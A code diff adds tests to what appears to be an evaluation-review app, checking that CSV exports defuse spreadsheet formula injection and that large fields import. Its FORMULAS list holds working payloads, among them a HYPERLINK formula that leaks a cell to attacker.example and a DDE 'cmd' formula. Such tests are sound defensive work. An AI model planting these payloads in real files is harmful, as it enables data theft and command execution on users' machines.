@@ -397,6 +397,74 @@ def test_exports_round_trip_through_the_importers(seeded, tmp_path):
             assert summary.added == {} and summary.unchanged == 1, (what, fmt)
 
 
+# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), and text that only looks
+# like the quote an export adds.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tindented=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''-twice",
+    "it's fine = 2",
+]
+
+
+def test_csv_exports_neutralise_formulas_and_round_trip(seeded, tmp_path):
+    import csv
+
+    from review_app.importers import FORMULA_STARTS, export_rows
+
+    votes = [
+        {"item_id": key, "system_a": "finetuned", "system_b": "base", "reviewer": reviewer}
+        | {"winner": "base", "rationale": rationale}
+        for key in ("q1", "q2")
+        for reviewer, rationale in zip(("=cmd|' /C calc'!A0", "ann"), FORMULAS, strict=False)
+    ]
+    verdicts = [
+        {"item_id": "q1", "system_a": "finetuned", "system_b": "base", "judge": f"j{i}"}
+        | {"winner": "tie", "first": "", "explanation": text}
+        for i, text in enumerate(FORMULAS)
+    ]
+    data_service.import_votes(seeded, write(tmp_path / "v.jsonl", jsonl(*votes)), "s")
+    data_service.import_verdicts(seeded, write(tmp_path / "j.jsonl", jsonl(*verdicts)), "s")
+    from review_app.services import thresholds
+
+    thresholds.add_threshold(
+        seeded, "s", "human_win_rate", {"system_a": "finetuned", "system_b": "base"}, ">", 0.5, "a"
+    )
+    thresholds.lock_thresholds(seeded, "s", "a")  # votes and verdicts export after the lock
+    for what in ("votes", "verdicts"):
+        columns = data_service.EXPORT_COLUMNS[what]
+        out = tmp_path / f"{what}.csv"
+        with out.open("w", encoding="utf-8", newline="") as handle:
+            export_rows(data_service.export_rows(seeded, what, "s"), "csv", handle, columns)
+        cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], what
+        assert '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")' in cells
+        assert "'=cmd|' /C calc'!A0" in cells
+        # The quote an export adds comes off on import: the export imports back unchanged.
+        importer = data_service.import_votes if what == "votes" else data_service.import_verdicts
+        summary = importer(seeded, out, "s")
+        assert summary.added == {} and summary.unchanged == summary.rows > 0, what
+    # JSONL exports stay exact.
+    out = tmp_path / "verdicts.jsonl"
+    with out.open("w", encoding="utf-8") as handle:
+        export_rows(data_service.export_rows(seeded, "verdicts", "s"), "jsonl", handle, [])
+    exported = [json.loads(line)["explanation"] for line in out.read_text().splitlines()]
+    assert sorted(exported) == sorted(FORMULAS)
+
+
+def test_a_csv_field_of_a_megabyte_imports(store, tmp_path):
+    big = "x" * 1_000_000
+    text = "item_id,prompt,system,output\n" + f'q1,p,base,"{big}"\n'
+    data_service.import_outputs(store, write(tmp_path / "o.csv", text), "e")
+    assert store.db.execute("SELECT length(text) FROM outputs").fetchone()[0] == len(big)
+
+
 def test_a_failed_import_does_not_leave_the_study_it_would_have_created(store, tmp_path):
     data_service.import_outputs(store, write(tmp_path / "o.csv", OUTPUTS_CSV), "e")
     before = store.table_counts()
